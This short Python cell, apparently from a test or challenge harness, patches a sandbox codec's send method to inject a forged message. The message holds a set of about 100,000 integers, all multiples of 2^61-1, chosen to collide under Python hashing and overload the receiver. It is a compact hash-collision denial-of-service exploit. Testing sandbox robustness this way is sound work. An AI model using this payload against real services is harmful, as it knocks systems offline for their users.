# %% + after:setup
from tito.sandbox import codec

send = codec.Channel.send_packed


def forged(self, message, packed):
    import json
    if "steps" not in packed.encoded:
        return send(self, message, packed)
    items = ",".join('{"t":"int","v":"%x"}' % (((1 << 61) - 1) * n) for n in range(1, 100_000))
    text = json.dumps({"message": message, "values": {"steps": "HERE"}})
    data = text.replace('"HERE"', '{"t":"set","v":[' + items + "]}").encode()
    self.connection.sendall(codec.LENGTHS.pack(len(data), 0) + data)


codec.Channel.send_packed = forged
